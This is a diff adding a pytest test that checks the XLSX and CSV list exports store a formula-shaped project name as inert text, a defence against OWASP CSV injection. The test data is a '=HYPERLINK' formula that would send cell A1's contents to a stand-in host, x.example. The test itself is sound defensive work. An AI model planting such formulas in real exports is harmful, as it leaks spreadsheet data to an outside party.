@@ -79,6 +79,27 @@ def test_list_export_xlsx_opens(world: Any) -> None:
     assert Decimal(str(sheet.cell(2, 5).value)) == Decimal("3650.68")
 
 
+def test_list_exports_write_a_formula_like_name_as_data(world: Any) -> None:
+    """OWASP CSV injection: ``=HYPERLINK(…)`` typed as a project name stays text."""
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"点此")'
+    world.table(name=hostile)
+    client = world.client("finance")
+    sheet = load_workbook(
+        io.BytesIO(client.get(reverse("table-list-export", args=["xlsx"])).content)
+    ).active
+    assert sheet.cell(2, 1).value == hostile and sheet.cell(2, 1).data_type == "s"
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get(reverse("table-list-export", args=["csv"])).content.decode("utf-8-sig")
+            )
+        )
+    )
+    assert rows[1][0] == "'" + hostile
+
+
 def test_history_export(world: Any) -> None:
     table = world.table()
     response = world.client("owner").get(reverse("table-history-export", args=[table.pk, "csv"]))
